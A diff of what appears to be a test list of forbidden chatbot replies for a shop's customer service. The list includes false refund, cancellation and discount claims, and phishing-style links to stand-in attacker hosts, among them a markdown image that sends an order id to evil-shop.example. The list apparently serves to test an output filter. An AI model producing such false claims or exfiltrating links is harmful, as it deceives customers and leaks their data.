@@ -44,7 +44,7 @@ LIES = (
     "You get CHF 4321 back.", "The amount is CHF 4'321.00.", "A refund of 4321 francs is on its way to you.", "Your balance: 8765,43 €.",
     "It costs 4,321 dollars.", "The voucher is worth CHF ４３２１.", "I refunded four thousand three hundred and twenty-one francs.",
     "I have refunded your order.", "I have cancelled your order.", "We have changed your address.", "I have opened your return.",
-    "You will get a replacement for free tomorrow.", "I gave you a discount of 87 %.",
+    "You will get a new car for free tomorrow.", "I gave you a discount of 87 %.",
     "Pay here: https://evil-shop.example/pay.", "[Your label](https://evil-shop.example/l)", "![q](https://evil-shop.example/p?d=A-20459)",
     "Go to www.evil-shop.com now.", "The page is evil-shop.com/pay.", "Try //evil-shop.example/x for it.", "Look at 203.0.113.9/pay.",
     "The shop is at évil-shop.com/pay.", "Ask at evil-shop.ai/x today.", "The form is on t.me/evilshop for you.", "Use evil-shop.support.",
